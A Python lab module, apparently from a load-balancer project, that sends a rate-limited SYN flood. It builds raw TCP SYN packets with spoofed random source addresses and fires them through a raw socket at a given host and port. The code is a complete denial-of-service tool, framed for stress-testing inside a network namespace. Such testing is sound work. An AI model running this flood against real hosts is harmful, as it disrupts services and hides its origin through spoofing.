"""A bounded SYN flood for labs: COUNT SYNs at RATE per second from random sources in a prefix.

Run inside a namespace: `python -m pylvs.lab.synflood DST PORT COUNT RATE [PREFIX]`. Packets are
built up front and sent through a raw socket in 10 ms batches, so the rate holds without scapy.
Prints the number sent and the seconds taken.
"""

from __future__ import annotations

import ipaddress
import random
import socket
import struct
import sys
import time


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", _checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
    return ip + tcp


def flood(dst: str, port: int, count: int, rate: int, prefix: str = "198.18.0.0/15") -> tuple[int, float]:
    net = ipaddress.ip_network(prefix)
    rnd = random.Random(1)
    daddr = socket.inet_aton(dst)
    packets = [syn(int(net.network_address + rnd.randrange(1, net.num_addresses - 1)).to_bytes(4, "big"),
                   daddr, rnd.randrange(1024, 65535), port, rnd.getrandbits(32)) for _ in range(count)]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    batch = max(1, rate // 100)
    start = time.monotonic()
    sent = 0
    for i in range(0, count, batch):
        for pkt in packets[i:i + batch]:
            try:
                sock.sendto(pkt, (dst, 0))
                sent += 1
            except OSError:  # a full socket buffer: the packet is lost, as on a wire
                pass
        time.sleep(max(0.0, start + (i + batch) / rate - time.monotonic()))
    return sent, time.monotonic() - start


if __name__ == "__main__":
    args = sys.argv[1:]
    done, seconds = flood(args[0], int(args[1]), int(args[2]), int(args[3]), *args[4:5])
    print(done, round(seconds, 2))
